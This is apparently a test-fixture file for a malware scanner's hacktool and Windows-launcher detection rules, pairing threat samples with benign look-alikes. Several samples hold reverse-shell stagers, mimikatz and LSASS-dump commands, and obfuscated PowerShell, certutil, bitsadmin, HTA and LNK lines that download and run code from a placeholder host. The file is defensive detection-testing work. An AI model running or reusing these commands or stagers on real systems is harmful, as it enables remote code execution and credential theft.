/** Hacktool disguises and look-alikes beyond test/malware-disguises.test.ts's own (see kit.ts). */
import { deflateSync } from 'node:zlib';

import { bin, fakeElf, fakePeWithImports, sample, text, type RuleSamples, type Sample } from './kit.js';

const threat = sample('hacktool');
const windows = sample('windows-malware');
const clean = sample(undefined);

const U = 'http://198.51.100.7/a';
const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');
/** A made-up base64 payload long enough to look like an embedded assembly (decodes to zeros). */
const blob = b64(Buffer.alloc(600));

/** A shell-link file: the header (size 0x4C, the shell-link CLSID) and UTF-16 StringData. */
function fakeLnk(args: string): Buffer {
  const header = Buffer.alloc(76);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4);
  header.writeUInt32LE(0x20 | 0x80 | 0x04 | 0x10, 20);
  header.writeUInt32LE(7, 60);
  const sd = (s: string) => {
    const len = Buffer.alloc(2);
    len.writeUInt16LE(s.length);
    return Buffer.concat([len, Buffer.from(s, 'utf16le')]);
  };
  return Buffer.concat([header, sd('Invoice'), sd('C:\\Windows\\System32'), sd(args), Buffer.alloc(4)]);
}

// msfvenom's Python wrapper over a (harmless) stage
const pyStage = "import socket\ns=socket.socket(2,1)\ns.connect(('127.0.0.1',4444))\n";
const msfPyZlib = `exec(__import__('zlib').decompress(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('${b64(deflateSync(pyStage))}')[0])))\n`;
const msfPyZlibOnly = `exec(__import__('zlib').decompress(__import__('base64').b64decode('${b64(deflateSync(pyStage))}')))\n`;
const msfPyOld = `exec(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('${b64(pyStage)}')[0]))\n`;

const phpMeterpreter =
  "<?php error_reporting(0); $ip = '127.0.0.1'; $port = 4444; " +
  "if (($f = 'stream_socket_client') && is_callable($f)) { $s = $f(\"tcp://{$ip}:{$port}\"); $s_type = 'stream'; } " +
  "$len = fread($s, 4); $a = unpack('Nlen', $len); $b = fread($s, $a['len']); " +
  "$GLOBALS['msgsock'] = $s; $GLOBALS['msgsock_type'] = $s_type; eval($b); die();";

const csPowerShell =
  "Set-StrictMode -Version 2\n$DoIt = @'\nfunction func_get_proc_address {\n Param ($var_module, $var_procedure)\n}\n" +
  'function func_get_delegate_type {}\n' +
  `[Byte[]]$var_code = [System.Convert]::FromBase64String('${b64('not a shellcode, just text for a test')}')\n` +
  'for ($x = 0; $x -lt $var_code.Count; $x++) { $var_code[$x] = $var_code[$x] -bxor 35 }\n' +
  "'@\nIEX $DoIt\n";

const powerSploit =
  'function Invoke-Shellcode {\n param([Byte[]]$Shellcode)\n}\nfunction Invoke-ReflectivePEInjection {}\nfunction Get-GPPPassword {}\n';
const powerView =
  'function Get-DomainUser {}\nfunction Invoke-Kerberoast {}\nfunction Find-LocalAdminAccess {}\nfunction Invoke-UserHunter {}\n';
const pshLoader =
  '$code = \'[DllImport("kernel32.dll")]public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);' +
  '[DllImport("kernel32.dll")]public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);\';\n' +
  '$w = Add-Type -memberDefinition $code -Name "Win32" -namespace Win32Functions -passthru;\n' +
  '[Byte[]]$sc = 0x90,0x90,0x90,0x90;\n$x=$w::VirtualAlloc(0,0x1000,0x3000,0x40);\n$w::CreateThread(0,0,$x,0,0,0);\n';
const asmLoad = `[System.Reflection.Assembly]::Load([Convert]::FromBase64String('${blob}')) | Out-Null\n`;
const asmLoadVar = `$b = [Convert]::FromBase64String('${blob}')\n[Reflection.Assembly]::Load($b) | Out-Null\n`;

// Metasploit Framework files: an exploit module, a payload module, the msfconsole launcher
const msfModule =
  'class MetasploitModule < Msf::Exploit::Remote\n  Rank = ExcellentRanking\n  include Msf::Exploit::Remote::HttpClient\n' +
  "  def initialize(info = {})\n    super(update_info(info, 'Name' => 'x'))\n    register_options([Opt::RPORT(8080)])\n  end\nend\n";
const msfPayloadModule =
  'module MetasploitModule\n  CachedSize = 74\n  include Msf::Payload::Single\n  include Msf::Payload::Linux\nend\n';
const msfConsole =
  "#!/usr/bin/env ruby\nrequire 'msfenv'\nrequire 'metasploit/framework/command/console'\nMetasploit::Framework::Command::Console.start\n";
const gemMentioningMsf =
  '# Imports scan results (Nmap, Nessus, Metasploit exports of Msf::Exploit runs) into the tracker.\n' +
  'module Tracker\n  class MetasploitImporter\n    def call(xml) = parse(xml)\n  end\nend\n';

/**
 * Instruction sequences of Linux shellcode, kept apart by filler text so that no runnable code is
 * written: x86 socketcall(SYS_SOCKET) and a pushed "/bin//sh"; the x64 stager's mmap set-up and
 * its socket call.
 */
const filler = Buffer.from(' -- not code -- ', 'latin1');
const hex = (h: string) => Buffer.from(h.replace(/ /g, ''), 'hex');
const lin32Shape = Buffer.concat([
  hex('31 db f7 e3 53 43 53 6a 02 89 e1 b0 66 cd 80'),
  filler,
  hex('68 6e 2f 73 68 68 2f 2f 62 69 89 e3'),
  filler,
]);
const lin64MmapShape = Buffer.concat([
  hex('6a 09 58 99 b6 10 48 89 d6 4d 31 c9 6a 22 41 5a'),
  filler,
  hex('6a 29 58 99 6a 02 5f 6a 01 5e 0f 05'),
  filler,
]);
/** The x64 stager's first 15 bytes (a prologue that calls nothing real), as text. */
const x64StagerStart = hex('fc 48 83 e4 f0 e8 cc 00 00 00 41 51 41 50 52');

const hta = (cmd: string) =>
  `<html><head><HTA:APPLICATION ID="x"><script language="VBScript">\nSet s = CreateObject("WScript.Shell")\ns.Run "${cmd}", 0\nself.close\n</script></head></html>\n`;

export const THREATS: Sample[] = [
  // 1. msfvenom Python stagers
  threat('msfvenom python, zlib and codecs wrapper', 'worker.py', msfPyZlib),
  threat('msfvenom python, zlib wrapper only', 'health.py', msfPyZlibOnly),
  threat('msfvenom python, older base64 and codecs wrapper', 'job.py', msfPyOld),
  // 2. php/meterpreter/reverse_tcp
  threat('php meterpreter reverse_tcp in an upload folder', 'cache.php', phpMeterpreter),
  // 3. Cobalt Strike PowerShell stager without extension
  threat('Cobalt Strike PowerShell stager template, no extension', 'a', csPowerShell),
  threat(
    'Cobalt Strike configuration not XOR-ed',
    'raw.bin',
    Buffer.concat([
      Buffer.from('000100010002000100020001000201bb000300020004000075300004', 'hex'),
      Buffer.alloc(32, 0x41),
    ]),
  ),
  // 4. offensive PowerShell
  threat('PowerSploit functions in a module', 'tools.psm1', powerSploit),
  threat('PowerView functions without extension', 'pv', powerView),
  threat('msfvenom -f psh loader without extension', 'svc', pshLoader),
  threat('assembly loaded from base64 inline', 'loader.ps1', asmLoad),
  threat('assembly loaded from a base64 variable', 'loader', asmLoadVar),
  threat(
    'mimikatz commands without its name',
    'run.bat',
    'm.exe "privilege::debug" "token::elevate" "lsadump::sam" exit\n',
  ),
  threat(
    'mimikatz commands split by concatenation',
    'c.ps1',
    "$a = 'sekur' + 'lsa::logon' + 'passwords'\n$b = 'privi' + 'lege::de' + 'bug'\n& .\\m64.exe $b $a exit\n",
  ),
  // 5. Go offensive tools by module path
  threat(
    'Mythic poseidon agent',
    'poseidon',
    fakeElf('github.com/MythicAgents/poseidon/Payload_Type/poseidon/agent_code/pkg\0go1.21.5'),
  ),
  threat('Merlin agent', 'merlin', fakeElf('github.com/Ne0nd0g/merlin-agent/agent\0go1.21.5')),
  threat('Havoc team server', 'havoc', fakeElf('github.com/HavocFramework/havoc/teamserver\0go1.21.5')),
  threat('Caldera manx agent', 'manx', fakeElf('github.com/mitre/manx/shells\0go1.21.5')),
  threat('kerbrute', 'kerbrute', fakeElf('github.com/ropnop/kerbrute/session\0go1.21.5')),
  threat('frp client', 'frpc', fakeElf('github.com/fatedier/frp/client\0go1.21.5')),
  threat('gost v3', 'gost', fakeElf('github.com/go-gost/gost/cmd\0go1.21.5')),
  threat('gost v2', 'gost2', fakeElf('github.com/ginuerzh/gost\0go1.21.5')),
  // 6. credential and post-exploitation scripts
  threat(
    'LaZagne launcher',
    'laZagne.py',
    'from lazagne.config.write_output import write_in_file\nfrom lazagne.config.run import run_lazagne\n',
  ),
  threat(
    'pypykatz script',
    'dump.py',
    "from pypykatz.pypykatz import pypykatz\nmimi = pypykatz.parse_minidump_file('x.dmp')\n",
  ),
  threat('Responder banner', 'Responder.py', "print(color('NBT-NS, LLMNR & MDNS Responder', 8, 1))\n"),
  threat(
    'impacket secretsdump example',
    'secretsdump.py',
    'from impacket.examples.secretsdump import LocalOperations, RemoteOperations, SAMHashes, LSASecrets\n',
  ),
  threat(
    'Empire python launcher',
    'launcher.py',
    'cmd = "ps -ef | grep Little\\ Snitch | grep -v grep"\na=urllib.request.urlopen(req).read();IV=a[0:4];data=a[4:];key=IV+b\'k\';S,j,out=list(range(256)),0,[]\n',
  ),
  threat(
    'Caldera ragdoll agent',
    'ragdoll.py',
    "class OperationLoop:\n    def go(self):\n        requests.post('%s/weather' % self.server, data={'paw': self.paw})\nOperationLoop('http://127.0.0.1:8888').start()\n",
  ),
  threat(
    'masscan binary',
    'masscan',
    fakeElf('Masscan version 1.3.2 ( https://github.com/robertdavidgraham/masscan )\0'),
  ),
  threat(
    'masscan and zgrab2 script',
    'scan.sh',
    '#!/bin/sh\nmasscan 198.51.100.0/24 -p22 --rate 100000 -oL o\nzgrab2 http --port 80 < o\n',
  ),
  // 7. Windows scripts
  windows('HTA running cmd /c', 'update2.hta', hta('cmd /c curl -o %TEMP%\\a.exe ' + U + ' & %TEMP%\\a.exe')),
  windows('HTA tag in a .html name running powershell', 'index.html', hta('powershell -nop -c whoami')),
  windows(
    'LNK with a PowerShell DownloadString',
    'Invoice.pdf.lnk',
    fakeLnk(`/c powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('${U}')"`),
  ),
  windows(
    'LNK with certutil -urlcache',
    'doc.lnk',
    fakeLnk(`/c certutil -urlcache -split -f ${U}.exe a.exe & a.exe`),
  ),
  windows('certutil behind carets', 'l2.cmd', `c^e^r^t^u^t^i^l -url^cache -f ${U}.exe a.exe && a.exe\n`),
  windows(
    'bitsadmin create/addfile/resume',
    'l4.bat',
    `bitsadmin /create j & bitsadmin /addfile j ${U}.exe %TEMP%\\a.exe & bitsadmin /resume j\n`,
  ),
  windows('certutil -verifyctl fetch', 'l5.bat', `certutil.exe -verifyctl -f -split ${U}.exe\n`),
  windows(
    'rundll32 javascript through mshtml',
    'l6.bat',
    `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";GetObject("script:${U}.sct")\n`,
  ),
  windows('certutil -decode into an exe then run', 'l10.bat', 'certutil -decode payload.b64 a.exe & a.exe\n'),
  threat(
    'PE dumping lsass through MiniDumpWriteDump',
    'dump.exe',
    Buffer.concat([
      fakePeWithImports({ 'kernel32.dll': ['OpenProcess'], 'dbghelp.dll': ['MiniDumpWriteDump'] }),
      Buffer.from('lsass.exe\0', 'utf16le'),
    ]),
  ),
  // 8. PowerShell obfuscation without a .ps1 name
  windows(
    'method name joined into a variable',
    'update',
    `$m = 'Down' + 'loadString'\n$w = New-Object Net.WebClient\nIEX $w.$m('${U}')\n`,
  ),
  windows(
    'IEX from $ShellId',
    'e',
    `.( $ShellId[1]+$ShellId[13]+'x') ((New-Object Net.WebClient).DownloadString('${U}'))\n`,
  ),
  windows(
    'IEX from char codes',
    'f',
    `$x = [char[]](73,69,88) -join ''\n& $x ((New-Object Net.WebClient).DownloadString('${U}'))\n`,
  ),
  windows(
    'quoted DownloadString member invoked',
    'd',
    `&('I'+'EX') ((New-Object Net.WebClient).('Download'+'String').Invoke('${U}'))\n`,
  ),
  // 9. Metasploit Framework and raw Linux shellcode
  threat('Metasploit exploit module', 'x.rb', msfModule),
  threat('Metasploit payload module', 'shell_reverse_tcp.rb', msfPayloadModule),
  threat('msfconsole launcher', 'msfconsole', msfConsole),
  threat(
    'x86 Linux reverse-shell shape in an ELF with sections',
    'svc32',
    fakeElf(lin32Shape, { sections: true }),
  ),
  threat(
    'x64 Linux mmap stager shape in an ELF with sections',
    'svc64m',
    fakeElf(lin64MmapShape, { sections: true }),
  ),
  threat('x64 Linux mmap stager shape in an ELF without sections', 'svc', fakeElf(lin64MmapShape)),
  threat('x64 stager start as bare hex digits', 'blob.hex', x64StagerStart.toString('hex') + '5648\n'),
  threat(
    'x64 stager start as base64, no decoder named',
    'blob.b64',
    b64(Buffer.concat([x64StagerStart, filler])) + '\n',
  ),
];

export const LEGITIMATE: Sample[] = [
  clean(
    'big-endian table with another layout',
    'table.bin',
    Buffer.from('000100010002000500020001000201bb0003000200040000', 'hex'),
  ),
  clean(
    'python exec of a literal module import',
    'setup.py',
    "exec(__import__('textwrap').dedent(SRC))\nimport zlib, base64\ndata = zlib.decompress(base64.b64decode(BLOB))\n",
  ),
  clean(
    'php socket client without a stage',
    'client.php',
    "<?php $s = stream_socket_client('tcp://127.0.0.1:80'); $GLOBALS['sock'] = $s; fwrite($s, 'ping'); ?>",
  ),
  clean(
    'PowerShell module with ordinary AD cmdlets',
    'ad.psm1',
    'Get-ADUser -Filter *\nGet-ADComputer -Filter *\nGet-ADDomainController\n',
  ),
  clean(
    'PowerShell docs naming one PowerSploit function',
    'notes.md',
    'Invoke-Shellcode and Get-DomainUser are well-known attack functions.\n',
  ),
  clean(
    'C# source with VirtualAlloc declared',
    'Native.cs',
    '[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);\n',
  ),
  clean(
    'PowerShell loading an assembly from a file',
    'load.ps1',
    "[System.Reflection.Assembly]::LoadFrom('C:\\app\\lib.dll')\n",
  ),
  clean(
    'Go binary of ngrok',
    'ngrok',
    fakeElf('github.com/inconshreveable/ngrok/src/ngrok/client\0go1.21.5'),
  ),
  clean(
    'Go source naming frp',
    'go.mod',
    'module example.test/x\nrequire github.com/fatedier/frp/ v0.52.0\n',
  ),
  clean(
    'impacket library module',
    'dcsyncclient.py',
    'from impacket.examples.secretsdump import RemoteOperations, SAMHashes, NTDSHashes\n',
  ),
  clean('nmap wrapper script', 'scan.sh', '#!/bin/sh\nnmap -sV -p 22 198.51.100.7\n'),
  clean(
    'HTA with a plain message box',
    'about.hta',
    '<HTA:APPLICATION ID="a"><script language="VBScript">MsgBox "hello"</script>\n',
  ),
  clean(
    'VBS running a local program',
    'start.vbs',
    'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c echo hi", 0\n',
  ),
  clean('LNK to a local program', 'app.lnk', fakeLnk('--profile default')),
  clean('batch with escaped pipe', 'build.bat', 'echo a ^| b ^> c\ncertutil -hashfile app.zip SHA256\n'),
  clean('certutil -decode of a certificate', 'cert.bat', 'certutil -decode cert.b64 cert.cer\n'),
  clean(
    'PowerShell DownloadFile of a document',
    'get.ps1',
    "$wc = New-Object Net.WebClient\n$wc.DownloadFile('" + U + "', 'a.txt')\n",
  ),
  clean(
    'crash reporter PE with MiniDumpWriteDump',
    'crashpad.exe',
    Buffer.concat([
      fakePeWithImports({ 'dbghelp.dll': ['MiniDumpWriteDump'], 'kernel32.dll': ['GetCurrentProcess'] }),
      Buffer.from('crash.dmp\0', 'utf16le'),
    ]),
  ),
  clean('Ruby gem naming Metasploit and Msf::Exploit in a comment', 'importer.rb', gemMentioningMsf),
  clean(
    'Metasploit module template in documentation',
    'writing-a-module.md',
    '# Writing a module\n\n' + msfModule,
  ),
  clean(
    'signature list with the stager start inside a longer hex run',
    'local.ndb',
    `Test.Sig-1:0:*:9090${x64StagerStart.toString('hex')}\n`,
  ),
  clean(
    'ELF with the x64 socket call only',
    'netd',
    fakeElf(Buffer.concat([filler, lin64MmapShape.subarray(32)]), { sections: true }),
  ),
];

/** Samples of the rules this area adds to the pack. */
export const RULE_SAMPLES: Record<string, RuleSamples> = {
  'hacktool-powershell-offensive': {
    positive: text(powerSploit, 'tools.psm1'),
    negative: text('function Get-Inventory {}\nfunction Invoke-Build {}\n', 'build.psm1'),
  },
  'hacktool-go-c2-agent': {
    positive: bin(fakeElf('github.com/MythicAgents/poseidon/agent\0')),
    negative: bin(fakeElf('github.com/MythicAgents/poseidon/agent\0'.replace('MythicAgents', 'example'))),
  },
  'hacktool-go-attack-tool': {
    positive: bin(fakeElf('github.com/ropnop/kerbrute/session\0')),
    negative: text('github.com/ropnop/kerbrute/session\n', 'go.sum'),
  },
  'hacktool-python-offensive': {
    positive: text('from lazagne.config.run import run_lazagne\n', 'laZagne.py'),
    negative: text('from impacket.examples.secretsdump import RemoteOperations, SAMHashes\n', 'smbattack.py'),
  },
  'hacktool-network-scanner': {
    positive: text('#!/bin/sh\nzgrab2 http --port 8080 < hosts.txt > out.json\n', 'scan.sh'),
    negative: text('#!/bin/sh\necho "install zgrab2 first"\n', 'help.sh'),
  },
  'windows-hta-launcher': {
    positive: text(hta('powershell -nop -c whoami'), 'a.hta'),
    negative: text(hta('notepad.exe'), 'a.hta'),
  },
  'windows-lnk-download': {
    positive: bin(fakeLnk(`/c mshta ${U}.hta`), 'a.lnk'),
    negative: bin(fakeLnk('/c start notepad.exe'), 'a.lnk'),
  },
  'windows-batch-caret-obfuscation': {
    positive: text('p^o^w^e^r^s^h^e^l^l -c whoami\n', 'a.bat'),
    negative: text('echo 2^^3 ^& powershell -c whoami\n', 'a.bat'),
  },
  'windows-powershell-obfuscated-iex': {
    positive: text("$x = [char]73+[char]69+[char]88\n& $x 'whoami'\n", 'a'),
    negative: text('$x = [char]72+[char]73\nWrite-Host $x\n', 'a'),
  },
  'windows-pe-lsass-dump': {
    positive: bin(
      Buffer.concat([
        fakePeWithImports({ 'dbghelp.dll': ['MiniDumpWriteDump'] }),
        Buffer.from('lsass.exe\0', 'latin1'),
      ]),
      'd.exe',
    ),
    negative: bin(
      Buffer.concat([
        fakePeWithImports({ 'dbghelp.dll': ['MiniDumpWriteDump'] }),
        Buffer.from('app.exe\0', 'latin1'),
      ]),
      'd.exe',
    ),
  },
  'hacktool-metasploit-framework': {
    positive: text(msfModule, 'x.rb'),
    negative: text(gemMentioningMsf, 'importer.rb'),
  },
};
